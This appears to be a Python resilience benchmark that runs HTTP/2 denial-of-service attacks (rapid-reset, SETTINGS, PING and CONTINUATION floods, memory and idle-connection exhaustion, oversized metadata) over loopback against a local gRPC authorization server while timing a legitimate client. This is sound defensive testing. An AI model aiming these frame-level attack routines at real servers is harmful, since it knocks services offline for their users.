"""Hostile clients against ``extauthz serve``, on both transports, while a legit client checks.

Each attack runs for ``--duration`` seconds from its own process against one extauthz
process (``transport: h2``, then ``transport: grpcio``). Meanwhile a legit gRPC client sends
one Check (a valid admin token, the load-test policy) every ``1/--rate`` seconds on its own
channel and records each latency; a call over 1 s counts as an error. Per attack the table
shows the legit p50/p99 and errors, the server's CPU and its peak RSS, and how often the
attacker was cut off (its connection closed, GOAWAY or not).

The attacker's sockets are bound to an address of its own (127.0.0.2 for the first attack,
127.0.0.3 for the next, ...) while the legit client connects from 127.0.0.1 (Linux routes
all of 127/8 to loopback), so extauthz sees two peers, as it would an attacker on another
host; its per-peer budgets and penalty box apply to the attacker alone. Each attack is a new
attacker: a penalty earned by one attack must not keep the next one's connections out, or
that row would measure the penalty box instead of its attack. Traffic stays on loopback.

Attacks (each bounded by ``--duration``):

- ``control``: the attacker's PING flood sent to a socket that discards it, not to extauthz:
  what the attacker process alone costs the legit client on a machine this size;
- ``settings``: 1,000 open streams, then SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries;
- ``settings-flood``, ``ping-flood``: empty SETTINGS frames or PINGs, as fast as they go;
- ``continuation-flood``: one HEADERS without END_HEADERS, then empty CONTINUATIONs;
- ``rapid-reset``: a full Check request, then RST_STREAM, over and over;
- ``memory``: ``--memory-connections`` connections, each opening calls whose bodies stop
  just short of their message (4 MiB), never finished;
- ``idle``: ``--idle-connections`` connections, half of them never finishing the preface;
- ``metadata``: calls with 100 KB of request metadata.

Targets: legit p99 under every attack at most 3x the quiet p99, and RSS under the cap
(``limits.max_buffered_request_bytes`` plus the quiet RSS).

    python -m loadtests.hostile_bench                      # both transports, 5 s per attack
    python -m loadtests.hostile_bench --transports h2 --attacks settings,rapid-reset
"""

from __future__ import annotations

import argparse
import contextlib
import dataclasses
import multiprocessing
import pathlib
import socket
import statistics
import struct
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import grpc
import hpack
from envoy.config.core.v3 import address_pb2
from envoy.service.auth.v3 import attribute_context_pb2, external_auth_pb2, external_auth_pb2_grpc

from extauthz import http2
from loadtests import authz, procs
from waypoint.runtime import ports

CHECK_PATH = b"/envoy.service.auth.v3.Authorization/Check"
LEGIT_TIMEOUT = 1.0
# The attacker's source address, set in the attacker's own process (``_attacker``): a
# loopback address of its own per attack; the legit client is 127.0.0.1.
ATTACKER_ADDRESS = "127.0.0.2"
_HEADERS = [
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", CHECK_PATH),
    (b":authority", b"extauthz"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
]


def check_request(token: str) -> external_auth_pb2.CheckRequest:
    ctx = attribute_context_pb2.AttributeContext
    headers = {":method": "GET", ":path": "/admin/orders", "authorization": f"Bearer {token}"}
    return external_auth_pb2.CheckRequest(
        attributes=ctx(
            source=ctx.Peer(
                address=address_pb2.Address(
                    socket_address=address_pb2.SocketAddress(address="10.0.0.1", port_value=4000)
                )
            ),
            request=ctx.Request(
                http=ctx.HttpRequest(
                    method="GET", path="/admin/orders", host="orders", headers=headers
                )
            ),
        )
    )


# -- attackers (each in its own process) ---------------------------------------------------


def _frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return http2.frame_header(len(payload), kind, flags, stream_id) + payload


class _Peer:
    """One raw HTTP/2 connection that reconnects whenever the server closes it."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.cutoffs = 0
        self.sock: socket.socket | None = None
        self.encoder = hpack.Encoder()
        self.next_stream = 1

    def connect(self) -> None:
        """A new connection and handshake; a refusal (reset at once) counts as a cut-off."""
        self.encoder, self.next_stream = hpack.Encoder(), 1
        try:
            sock = _attacker_socket(self.port)
        except OSError:
            self._cut_off()
            return
        self.sock = sock
        threading.Thread(target=_drain, args=(sock,), daemon=True).start()
        self.send(http2.PREFACE + _frame(http2.SETTINGS, 0, 0))

    def send(self, data: bytes) -> bool:
        """Send, or reconnect (and count the cut-off) when the server has closed us."""
        if self.sock is None:
            self.connect()
            if self.sock is None:
                return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self._cut_off()
            return False

    def _cut_off(self) -> None:
        self.cutoffs += 1
        if self.sock is not None:
            with contextlib.suppress(OSError):
                self.sock.close()
        self.sock = None

    def stream(self) -> int:
        stream_id = self.next_stream
        self.next_stream += 2
        return stream_id

    def headers(self, stream_id: int, end: bool, extra: list[tuple[bytes, bytes]] = ()) -> bytes:  # type: ignore[assignment]
        block = self.encoder.encode([*_HEADERS, *extra])
        flags = http2.END_HEADERS | (http2.END_STREAM if end else 0)
        return _frame(http2.HEADERS, flags, stream_id, block)


def _attacker_socket(port: int) -> socket.socket:
    return socket.create_connection(
        ("127.0.0.1", port), timeout=2, source_address=(ATTACKER_ADDRESS, 0)
    )


def _drain(sock: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while sock.recv(1 << 16):
            pass


def _until(deadline: float) -> Iterator[None]:
    while time.monotonic() < deadline:
        yield


def attack_settings(port: int, deadline: float, _message: bytes) -> int:
    peer = _Peer(port)
    entries = b"".join(struct.pack(">HL", 4, 65_535 + i % 2) for i in range(2730))
    big = _frame(http2.SETTINGS, 0, 0, entries)
    for _ in _until(deadline):
        peer.connect()
        opened = b"".join(peer.headers(peer.stream(), end=False) for _ in range(1000))
        if not peer.send(opened):
            continue
        while time.monotonic() < deadline and peer.send(big):
            pass
    return peer.cutoffs


def _flood(frame: bytes, prelude: Callable[[_Peer], bytes] | None = None) -> Callable[..., int]:
    def attack(port: int, deadline: float, _message: bytes) -> int:
        peer = _Peer(port)
        chunk = frame * 256
        for _ in _until(deadline):
            peer.connect()
            if prelude is not None and not peer.send(prelude(peer)):
                continue
            while time.monotonic() < deadline and peer.send(chunk):
                pass
        return peer.cutoffs

    return attack


def _open_block(peer: _Peer) -> bytes:
    block = peer.encoder.encode(_HEADERS)
    return _frame(http2.HEADERS, 0, peer.stream(), block)


def attack_rapid_reset(port: int, deadline: float, message: bytes) -> int:
    peer = _Peer(port)
    rst = struct.pack(">L", http2.CANCEL)
    for _ in _until(deadline):
        peer.connect()
        while time.monotonic() < deadline:
            burst = b""
            for _ in range(50):
                stream_id = peer.stream()
                burst += peer.headers(stream_id, end=False)
                burst += _frame(http2.DATA, http2.END_STREAM, stream_id, message)
                burst += _frame(http2.RST_STREAM, 0, stream_id, rst)
            if not peer.send(burst):
                break
    return peer.cutoffs


def attack_memory(port: int, deadline: float, _message: bytes, connections: int) -> int:
    peers = [_Peer(port) for _ in range(connections)]
    prefix = b"\x00" + struct.pack(">L", 4 * 1024 * 1024 - 16)
    chunk = prefix + b"m" * (16_384 - len(prefix))
    cutoffs = 0
    for peer in peers:
        peer.connect()
    while time.monotonic() < deadline:
        for peer in peers:
            stream_id = peer.stream()
            sent = peer.send(peer.headers(stream_id, end=False))
            # Up to one 4 MiB window per call, never the whole message.
            for _ in range(64):
                sent = sent and peer.send(_frame(http2.DATA, 0, stream_id, chunk))
            if not sent:
                cutoffs += 1
        time.sleep(0.05)
    return cutoffs + sum(p.cutoffs for p in peers)


def attack_idle(port: int, deadline: float, _message: bytes, connections: int) -> int:
    held: list[socket.socket] = []
    refused = 0
    for i in range(connections):
        if time.monotonic() >= deadline:
            break
        try:
            sock = _attacker_socket(port)
            if i % 2:
                sock.sendall(http2.PREFACE + _frame(http2.SETTINGS, 0, 0))
            else:
                sock.sendall(http2.PREFACE[:10])
            held.append(sock)
        except OSError:
            refused += 1
    while time.monotonic() < deadline:
        time.sleep(0.1)
    closed = 0
    for sock in held:
        sock.setblocking(False)
        try:
            if sock.recv(1 << 16) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        sock.close()
    return refused + closed


def attack_metadata(port: int, deadline: float, message: bytes) -> int:
    peer = _Peer(port)
    big = [(b"x-big", b"b" * 100_000)]
    for _ in _until(deadline):
        peer.connect()
        while time.monotonic() < deadline:
            stream_id = peer.stream()
            block = peer.encoder.encode([*_HEADERS, *big])
            frames = _frame(http2.HEADERS, 0, stream_id, block[:16_384])
            rest = block[16_384:]
            while rest:
                part, rest = rest[:16_384], rest[16_384:]
                flags = 0 if rest else http2.END_HEADERS
                frames += _frame(http2.CONTINUATION, flags, stream_id, part)
            frames += _frame(http2.DATA, http2.END_STREAM, stream_id, message)
            if not peer.send(frames):
                break
            time.sleep(0.001)
    return peer.cutoffs


def attack_control(_port: int, deadline: float, message: bytes) -> int:
    """The PING flood against a discard socket, not extauthz: what the attacker's own CPU
    costs the legit client on this machine, the floor under every other row."""
    listener = socket.create_server(("127.0.0.1", 0))
    sink_port = listener.getsockname()[1]

    def discard() -> None:
        conn, _ = listener.accept()
        _drain(conn)

    threading.Thread(target=discard, daemon=True).start()
    return _flood(_frame(http2.PING, 0, 0, b"12345678"))(sink_port, deadline, message)


ATTACKS: dict[str, Callable[..., int]] = {
    "control": attack_control,
    "settings": attack_settings,
    "settings-flood": _flood(_frame(http2.SETTINGS, 0, 0)),
    "ping-flood": _flood(_frame(http2.PING, 0, 0, b"12345678")),
    "continuation-flood": _flood(_frame(http2.CONTINUATION, 0, 1), _open_block),
    "rapid-reset": attack_rapid_reset,
    "memory": attack_memory,
    "idle": attack_idle,
    "metadata": attack_metadata,
}


def attacker_address(name: str) -> str:
    """The source address of the attack ``name``: one per attack, none of them 127.0.0.1."""
    return f"127.0.0.{2 + list(ATTACKS).index(name)}"


def _attacker(
    name: str, port: int, seconds: float, message: bytes, result: Any, options: dict[str, int]
) -> None:
    global ATTACKER_ADDRESS  # this process is the attacker's alone (spawned per attack)
    ATTACKER_ADDRESS = attacker_address(name)
    result.value = ATTACKS[name](port, time.monotonic() + seconds, message, **options)


def attack_options(attack: str, args: argparse.Namespace) -> dict[str, int]:
    """The attack's own settings from the command line: how many connections it holds."""
    if attack == "memory":
        return {"connections": args.memory_connections}
    if attack == "idle":
        return {"connections": args.idle_connections}
    return {}


# -- the legit client and the meters ---------------------------------------------------------


@dataclasses.dataclass
class Phase:
    transport: str
    attack: str
    latencies_ms: list[float]
    errors: int
    cpu_s: float
    seconds: float
    peak_rss_mb: float
    cutoffs: int

    def percentile(self, q: float) -> float:
        if not self.latencies_ms:
            return float("nan")
        ordered = sorted(self.latencies_ms)
        return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


def _legit(port: int, token: str, rate: float, stop: threading.Event, out: list[Any]) -> None:
    request = check_request(token)
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        stub = external_auth_pb2_grpc.AuthorizationStub(channel)
        stub.Check(request, timeout=5)  # connect first
        interval = 1 / rate
        next_at = time.monotonic()
        while not stop.is_set():
            started = time.monotonic()
            try:
                answer = stub.Check(request, timeout=LEGIT_TIMEOUT)
                ok = answer.status.code == 0
            except grpc.RpcError:
                ok = False
            out.append(((time.monotonic() - started) * 1000, ok))
            next_at += interval
            time.sleep(max(0.0, next_at - time.monotonic()))


def run_phase(
    server: procs.Child, port: int, transport: str, attack: str | None, args: argparse.Namespace
) -> Phase:
    token = authz.demo_tokens()["admin"]
    samples: list[Any] = []
    stop = threading.Event()
    legit = threading.Thread(target=_legit, args=(port, token, args.rate, stop, samples))
    before = server.usage()
    started = time.monotonic()
    legit.start()
    # spawn, not fork: this process runs a gRPC client, which does not survive a fork.
    context = multiprocessing.get_context("spawn")
    result = context.Value("i", 0)
    attacker = None
    if attack is not None:
        message = _grpc_message(check_request(token))
        attacker = context.Process(
            target=_attacker,
            args=(attack, port, args.duration, message, result, attack_options(attack, args)),
            daemon=True,
        )
        attacker.start()
    peak = 0.0
    while time.monotonic() - started < args.duration:
        peak = max(peak, server.usage().rss_bytes / 2**20)
        time.sleep(0.1)
    if attacker is not None:
        attacker.join(args.duration + 10)
        if attacker.is_alive():
            attacker.kill()
        elif attacker.exitcode:
            # A crashed attacker would pass for an attack the server shrugged off.
            raise RuntimeError(f"the {attack} attacker failed (exit code {attacker.exitcode})")
    stop.set()
    legit.join(10)
    after = server.usage()
    server.check_alive()
    return Phase(
        transport=transport,
        attack=attack or "quiet",
        latencies_ms=[ms for ms, ok in samples if ok],
        errors=sum(1 for _ms, ok in samples if not ok),
        cpu_s=after.cpu_seconds - before.cpu_seconds,
        seconds=time.monotonic() - started,
        peak_rss_mb=peak,
        cutoffs=int(result.value),
    )


def _grpc_message(request: Any) -> bytes:
    payload: bytes = request.SerializeToString()
    return b"\x00" + struct.pack(">L", len(payload)) + payload


def _server(transport: str, workdir: pathlib.Path) -> tuple[procs.Child, int]:
    port = ports.free_port()
    doc = {**authz.bench_config(f"127.0.0.1:{port}"), "transport": transport}
    return authz.start_extauthz(f"extauthz-{transport}", workdir, doc), port


def report(phases: list[Phase], cap_mb: float) -> str:
    lines = [
        "| transport | attack | legit p50 ms | legit p99 ms | p99 / quiet | legit errors"
        " | server CPU % | peak RSS MB | attacker cut off | met |",
        "|---|---|---|---|---|---|---|---|---|---|",
    ]
    quiet = {p.transport: p for p in phases if p.attack == "quiet"}
    for p in phases:
        base = quiet[p.transport]
        ratio = p.percentile(0.99) / base.percentile(0.99)
        rss_ok = p.peak_rss_mb <= base.peak_rss_mb + cap_mb
        met = "yes" if ratio <= 3 and rss_ok and not p.errors else "**no**"
        lines.append(
            f"| {p.transport} | {p.attack} | {p.percentile(0.5):.2f} | {p.percentile(0.99):.2f}"
            f" | {ratio:.1f}x | {p.errors} | {100 * p.cpu_s / p.seconds:.0f}"
            f" | {p.peak_rss_mb:.0f} | {p.cutoffs} | {met if p.attack != 'quiet' else '-'} |"
        )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--transports", default="h2,grpcio")
    parser.add_argument("--attacks", default=",".join(ATTACKS))
    parser.add_argument("--duration", type=float, default=5.0, help="seconds per phase")
    parser.add_argument("--rate", type=float, default=50.0, help="legit checks per second")
    parser.add_argument("--cap-mb", type=float, default=32.0, help="RSS allowed above quiet")
    parser.add_argument("--memory-connections", type=int, default=30, help="memory attack's")
    parser.add_argument("--idle-connections", type=int, default=1500, help="idle attack's")
    args = parser.parse_args(argv)
    attacks = [a for a in args.attacks.split(",") if a]
    unknown = set(attacks) - set(ATTACKS)
    if unknown:
        parser.error(f"unknown attacks: {', '.join(sorted(unknown))}")
    phases: list[Phase] = []
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        for transport in args.transports.split(","):
            server, port = _server(transport, pathlib.Path(tmp))
            try:
                for attack in [None, *attacks]:
                    phase = run_phase(server, port, transport, attack, args)
                    print(
                        f"{transport:6} {phase.attack:18} p99 {phase.percentile(0.99):7.2f} ms"
                        f"  errors {phase.errors:3}  rss {phase.peak_rss_mb:5.0f} MB"
                        f"  cut off {phase.cutoffs}",
                        flush=True,
                    )
                    phases.append(phase)
                    time.sleep(1)  # let the server settle between attacks
            finally:
                server.stop()
    print()
    print(report(phases, args.cap_mb))
    quiet_p99 = statistics.median(p.percentile(0.99) for p in phases if p.attack == "quiet")
    print(f"\nmedian quiet p99: {quiet_p99:.2f} ms")
    return 0


if __name__ == "__main__":
    sys.exit(main())
